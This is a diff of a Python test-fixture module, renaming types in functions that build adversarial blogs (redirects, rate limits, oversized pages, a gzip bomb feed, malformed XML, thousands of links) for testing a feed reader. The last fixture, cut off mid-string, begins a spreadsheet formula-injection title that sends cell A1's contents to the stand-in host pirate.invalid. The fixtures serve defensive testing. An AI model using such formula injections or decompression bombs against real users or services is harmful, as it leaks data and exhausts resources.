@@ -7,7 +7,7 @@ from dataclasses import replace
 from functools import cache
 
 from demo.people import PEOPLE
-from demo.site import HTML, Answer, Look, Pages, feed, page, redirect
+from demo.site import HTML, Appearance, Pages, Served, feed, page, redirect
 from demo.sites.plain import ATOM, INTRO, blog
 
 BIG_PAGE_BYTES = 20_000_000
@@ -15,32 +15,32 @@ BOMB_BYTES = 60_000_000
 LINKS = 5000
 
 
-def redirected(look: Look) -> Pages:
+def redirected(look: Appearance) -> Pages:
     """Return a blog whose home page stands elsewhere on the same host."""
     pages = blog(look)
     return pages | {"/": redirect("/fr/accueil/"), "/fr/accueil/": pages["/"]}
 
 
-def rate_limited(look: Look) -> Pages:
+def rate_limited(look: Appearance) -> Pages:
     """Return a blog that sends the first visitor of its home page away for a moment."""
     pages = blog(look)
-    busy = Answer(b"Too Many Requests", "text/plain", 429, (("Retry-After", "1"),), then=pages["/"])
+    busy = Served(b"Too Many Requests", "text/plain", 429, (("Retry-After", "1"),), then=pages["/"])
     return pages | {"/": busy}
 
 
-def big_page(look: Look) -> Pages:
+def big_page(look: Appearance) -> Pages:
     """Return a blog whose home page is far too large; its feed is not."""
-    return blog(look) | {"/": Answer(_big_page(), HTML)}
+    return blog(look) | {"/": Served(_big_page(), HTML)}
 
 
-def gzip_bomb(look: Look) -> Pages:
+def gzip_bomb(look: Appearance) -> Pages:
     """Return a blog whose main feed explodes when unpacked; its second feed is harmless."""
-    bomb = Answer(_bomb(), "application/atom+xml", headers=(("Content-Encoding", "gzip"),))
+    bomb = Served(_bomb(), "application/atom+xml", headers=(("Content-Encoding", "gzip"),))
     feeds = [(ATOM, "/bombe.xml"), (ATOM, "/index.xml")]
     return blog(look) | {"/": page("page.html", look, feeds=feeds, intro=INTRO), "/bombe.xml": bomb}
 
 
-def broken_feed(look: Look) -> Pages:
+def broken_feed(look: Appearance) -> Pages:
     """Return a blog whose feed is no XML: bare ampersands, an HTML entity, the end cut off."""
     pages = blog(look)
     broken = pages["/index.xml"].body.replace(b"</title>", b"&nbsp;R&D & co</title>")
@@ -48,14 +48,14 @@ def broken_feed(look: Look) -> Pages:
     return pages | {"/index.xml": replace(pages["/index.xml"], body=broken)}
 
 
-def many_links(look: Look) -> Pages:
+def many_links(look: Appearance) -> Pages:
     """Return a blog whose home page links to thousands of pages."""
     links = [f"/archives/{number}/" for number in range(LINKS)]
     home = page("page.html", look, feeds=[(ATOM, "/index.xml")], intro=INTRO, links=links)
     return blog(look) | {"/": home}
 
 
-def hostile_title(look: Look) -> Pages:
+def hostile_title(look: Appearance) -> Pages:
     """Return a blog whose title is an attack on web pages and on spreadsheets, and names a person."""
     title = (
         '=HYPERLINK("http://pirate.invalid/?"&A1,"Cliquez")'
